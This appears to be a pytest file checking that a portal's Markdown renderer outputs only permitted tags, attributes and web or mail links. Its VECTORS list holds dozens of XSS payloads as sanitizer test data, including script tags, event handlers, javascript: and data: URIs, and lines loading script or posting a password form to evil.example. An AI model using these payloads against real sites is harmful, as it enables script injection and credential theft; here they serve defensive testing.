"""What people write in Markdown never becomes more than text, headings, lists and links."""

import re
from html.parser import HTMLParser

import pytest

from portal.markdown import ATTRIBUTES, TAGS, to_html

VECTORS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a href='x' onclick=alert(1)>x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout/)",
    '[x](https://a.example/"onmouseover=alert(1))',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/seen.png)",
    '![x" onerror=alert(1)](https://evil.example/seen.png)',
    "![<script>alert(1)</script>](x)",
    "[![x](https://evil.example/seen.png)](https://a.example)",
    "`<script>alert(1)</script>`",
    "```<script>\n<script>alert(1)</script>\n```",
    '```js" onload="alert(1)\n1\n```',
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
)


class Reader(HTMLParser):
    """What a browser would make of it: the tags with their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", VECTORS)
def test_nothing_runs_and_nothing_is_loaded(text: str) -> None:
    for tag, attributes in Reader(to_html(text)).seen:
        assert tag in TAGS
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | {"rel"}
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"] or "")
            assert attributes["rel"] == "noopener noreferrer"


def test_what_can_be_written() -> None:
    text = "# One\n\n**bold** *slanted* `code`\n\n- a\n- b\n\n3. c\n\n> said\n\n---\n\nline  \nbreak"
    assert to_html(text) == (
        "<h3>One</h3>\n<p><strong>bold</strong> <em>slanted</em> <code>code</code></p>\n"
        '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start="3">\n<li>c</li>\n</ol>\n'
        "<blockquote>\n<p>said</p>\n</blockquote>\n<hr>\n<p>line<br>\nbreak</p>\n"
    )


def test_links_to_the_web_and_to_mail() -> None:
    assert to_html('[a](https://a.example/?x=1&y=2 "T") <http://b.example> [m](mailto:m@example.com)') == (
        '<p><a href="https://a.example/?x=1&amp;y=2" title="T" rel="noopener noreferrer">a</a> '
        '<a href="http://b.example" rel="noopener noreferrer">http://b.example</a> '
        '<a href="mailto:m@example.com" rel="noopener noreferrer">m</a></p>\n'
    )


def test_headings_stay_below_the_page_and_the_title() -> None:
    text = "\n".join("#" * level + f" {level}" for level in range(1, 7))
    assert re.findall(r"<(h\d)>", to_html(text)) == ["h3", "h4", "h5", "h6", "h6", "h6"]


def test_a_picture_is_its_words() -> None:
    assert to_html("![our <garage>](https://evil.example/seen.png)") == "<p>our &lt;garage&gt;</p>\n"


def test_html_is_shown_as_it_was_written() -> None:
    assert to_html("1 < 2 & <b>x</b>") == "<p>1 &lt; 2 &amp; &lt;b&gt;x&lt;/b&gt;</p>\n"
